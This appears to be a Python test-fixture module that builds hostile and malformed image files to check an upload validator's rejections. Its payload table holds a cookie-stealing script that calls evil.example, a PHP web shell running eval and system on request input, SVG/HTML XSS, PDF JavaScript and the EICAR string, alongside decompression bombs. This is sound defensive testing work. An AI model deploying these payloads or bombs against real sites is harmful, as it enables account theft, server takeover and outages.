"""Files that mean harm or are merely broken, made in code (S-30). Nothing here is a real picture of anybody."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any, NamedTuple

from PIL import Image


class Case(NamedTuple):
    """A file; the codes it may be refused with, none if it must come out clean; what must not survive."""

    data: bytes
    codes: tuple[str, ...] = ()
    payload: bytes = b""


BROKEN = ("picture_damaged", "picture_truncated", "picture_unreadable")


def encoded(picture: Image.Image, kind: str = "JPEG", **options: Any) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def speckled(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """Soft speckles: neither flat nor slow to make."""
    return Image.effect_noise((width // 16 + 1, height // 16 + 1), 70).resize((width, height)).convert(mode)


def segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def with_segments(jpeg: bytes, *segments: bytes) -> bytes:
    """Right after the start marker."""
    return jpeg[:2] + b"".join(segments) + jpeg[2:]


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def with_chunks(png: bytes, *chunks: bytes) -> bytes:
    """Right after the header chunk."""
    return png[:33] + b"".join(chunks) + png[33:]


def raw_png(width: int, height: int, depth: int, colour: int, row: bytes | None = None) -> bytes:
    """A PNG whose every row is ``row``; without one its pixels are missing."""
    packer = zlib.compressobj(1)
    body = b"".join([packer.compress(b"\0" + row) for _ in range(height)]) + packer.flush() if row else b""
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def with_size(jpeg: bytes, width: int, height: int) -> bytes:
    """The same JPEG claiming another size in its frame header."""
    at = max(jpeg.find(b"\xff\xc0"), jpeg.find(b"\xff\xc2")) + 5
    return jpeg[:at] + struct.pack(">HH", height, width) + jpeg[at + 4 :]


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.php", PAYLOADS["php"])
    return out.getvalue()


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>fetch('https://evil.example/?c='+encodeURIComponent(document.cookie)+'&u='+location)</script>"
PAYLOADS = {
    "html": b"<!doctype html><html><body onload=alert(document.domain)><form action=//evil.example>" + SCRIPT,
    "js": b"=1;/*" + b" " * 20 + b"*/self.onfetch=e=>e.respondWith(new Response(atob('PGgxPm93bmVkPC9oMT4=')));" * 2,
    "php": b"<?php eval(base64_decode($_POST['canary'])); system($_GET['canary']); __halt_compiler(); ?>" * 2,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><image href="//x/"/></svg>' * 2,
    "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\ntrailer",
    "eicar": EICAR,
}
PAYLOADS["zip"] = zipped()

SMALL = Image.linear_gradient("L").resize((320, 320)).convert("RGB")
JPEG = encoded(SMALL, quality=75)
PNG = encoded(SMALL, "PNG")


def polyglots() -> dict[str, Case]:
    """Every payload in every place of a picture that decoders skip."""
    places: dict[str, Callable[[bytes], bytes]] = {
        "jpeg-tail": lambda evil: JPEG + evil,
        "jpeg-comment": lambda evil: with_segments(JPEG, segment(0xFE, evil)),
        "jpeg-app13": lambda evil: with_segments(JPEG, segment(0xED, b"Photoshop 3.0\0" + evil)),
        "jpeg-exif": lambda evil: with_segments(JPEG, segment(0xE1, b"Exif\0\0" + evil)),
        "jpeg-icc": lambda evil: with_segments(JPEG, segment(0xE2, b"ICC_PROFILE\0\1\1" + evil)),
        "png-tail": lambda evil: PNG + evil,
        "png-text": lambda evil: with_chunks(PNG, chunk(b"tEXt", b"Comment\0" + evil)),
        "png-own-chunk": lambda evil: with_chunks(PNG, chunk(b"evIl", evil)),
    }
    return {
        f"{place}-{kind}": Case(put(evil), (), evil) for place, put in places.items() for kind, evil in PAYLOADS.items()
    }


def renamed() -> dict[str, Case]:
    """Other things under the name of a picture."""
    boxes = {brand: struct.pack(">I4s4sI", 24, b"ftyp", brand, 0) + b"mif1" + brand for brand in (b"heic", b"avif")}
    files = {
        "svg": PAYLOADS["svg"],
        "svg-xml": b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- -->' + PAYLOADS["svg"],
        "html": PAYLOADS["html"],
        "pdf": PAYLOADS["pdf"],
        "zip": PAYLOADS["zip"],
        "php": PAYLOADS["php"],
        "gif": encoded(SMALL, "GIF"),
        "bmp": encoded(SMALL, "BMP"),
        "tiff": encoded(SMALL, "TIFF"),
        "webp": encoded(SMALL, "WEBP"),
        "heic": boxes[b"heic"] + bytes(500),
        "avif": boxes[b"avif"] + bytes(500),
        "film": struct.pack(">I4s4sI", 16, b"ftyp", b"isom", 0) + bytes(500),
        "rar": b"Rar!\x1a\x07\x01\x00" + bytes(500),
        "office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
        "program": b"MZ\x90\0" + bytes(500),
        "fits": b"SIMPLE  =                    T" + b" " * 2850,
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(w) file",
        "noise": b"\x00\xff\xd8\xff" * 200,
    }
    return {f"renamed-{name}": Case(data, ("picture_format",)) for name, data in files.items()}


def bombs() -> dict[str, Case]:
    """Small files that would unpack to much, or take long to walk through."""
    pixels, broken = ("picture_pixels",), ("picture_damaged",)
    flat = encoded(Image.new("L", (2048, 2048), 128), progressive=True, quality=40)
    last_scan = flat[flat.rindex(b"\xff\xda") : -2]
    profile = b"p\0\0" + zlib.compress(bytes(30_000_000), 9)
    text = b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(b"A" * 9_000_000, 9)
    return {
        "png-900-megapixels": Case(raw_png(30_000, 30_000, 1, 0, bytes(3750)), pixels),
        "png-giant-header": Case(raw_png(2**31 - 1, 2**31 - 1, 8, 2), (*pixels, *broken)),
        "png-21-megapixels": Case(raw_png(21_000, 1000, 1, 0, bytes(2625)), pixels),
        "png-no-width": Case(raw_png(0, 400, 8, 2), broken),
        "png-no-pixels": Case(raw_png(400, 400, 8, 2), BROKEN),
        "jpeg-giant-header": Case(with_size(JPEG, 65500, 65500), pixels),
        "jpeg-54-megapixels": Case(with_size(JPEG, 9000, 6000), pixels),
        "jpeg-no-width": Case(with_size(JPEG, 0, 400), broken),
        "jpeg-pixels-missing": Case(with_size(JPEG, 7000, 7000), ()),
        "jpeg-40-megapixels-at-once": Case(
            with_size(encoded(SMALL, progressive=True, subsampling=0), 8000, 5000), pixels
        ),
        "jpeg-600-scans": Case(flat[:-2] + last_scan * 600 + b"\xff\xd9", broken),
        "jpeg-segments": Case(with_segments(JPEG, *[segment(0xE5, b"")] * 100_000), broken),
        "jpeg-fill": Case(with_segments(JPEG, b"\xff" * 5_000_000), broken),
        "png-100000-chunks": Case(with_chunks(PNG, *[chunk(b"evIl", b"")] * 100_000), broken),
        "png-100000-pixel-chunks": Case(with_chunks(PNG, *[chunk(b"IDAT", b"")] * 100_000), broken),
        "png-profile-30-megabytes": Case(with_chunks(PNG, chunk(b"iCCP", profile)), (*BROKEN, "clean")),
        "png-ztxt-9-megabytes": Case(with_chunks(PNG, chunk(b"zTXt", b"k\0\0" + text[22:])), (*BROKEN, "clean")),
        "png-itxt-9-megabytes": Case(with_chunks(PNG, chunk(b"iTXt", text)), (*BROKEN, "clean")),
        "png-itxt-flood": Case(with_chunks(PNG, *[chunk(b"iTXt", text)] * 60), (*BROKEN, "clean")),
    }


def broken() -> dict[str, Case]:
    """Cut, flipped and half there."""
    noise = speckled(900, 700)
    jpeg, progressive, png = encoded(noise), encoded(noise, progressive=True), encoded(noise, "PNG")
    cases = {"empty": Case(b"", ("picture_empty",)), "one-byte": Case(b"\xff", ("picture_format",))}
    for name, data in (("jpeg", jpeg), ("progressive", progressive), ("png", png)):
        for cut in (12, 60, 300, len(data) // 2, len(data) * 9 // 10):
            cases[f"{name}-cut-at-{cut}"] = Case(data[:cut], ("picture_truncated",))
        cases[f"{name}-last-40-bytes-missing"] = Case(data[:-40])
    pixels = png.index(b"IDAT")
    sum_of_header = bytes([png[29] ^ 1])
    return cases | {
        "png-wrong-header-sum": Case(png[:29] + sum_of_header + png[30:], ("picture_damaged",)),
        "png-wrong-pixel-sum": Case(png[: pixels + 5] + b"\0\0\0" + png[pixels + 8 :], ("picture_damaged",)),
        "png-lies-about-length": Case(png[: pixels - 4] + b"\x7f\xff\xff\xff" + png[pixels:], (*BROKEN, "clean")),
        "png-two-headers": Case(with_chunks(PNG, PNG[8:33]), (*BROKEN, "clean")),
        "png-end-first": Case(with_chunks(PNG, chunk(b"IEND", b"")), BROKEN),
        "jpeg-without-tables": Case(JPEG.replace(b"\xff\xdb", b"\xff\xec"), BROKEN),
        "jpeg-wrong-depth": Case(JPEG.replace(b"\xff\xc0\0\x11\x08", b"\xff\xc0\0\x11\x0d"), BROKEN),
        "jpeg-start-only": Case(b"\xff\xd8\xff" + bytes(400), BROKEN),
        "jpeg-exif-loop": Case(
            with_segments(
                JPEG, segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\1\0\0\0\x08\0\0\0\x08\0\0\0")
            )
        ),
    }


CORPUS = polyglots() | renamed() | bombs() | broken()
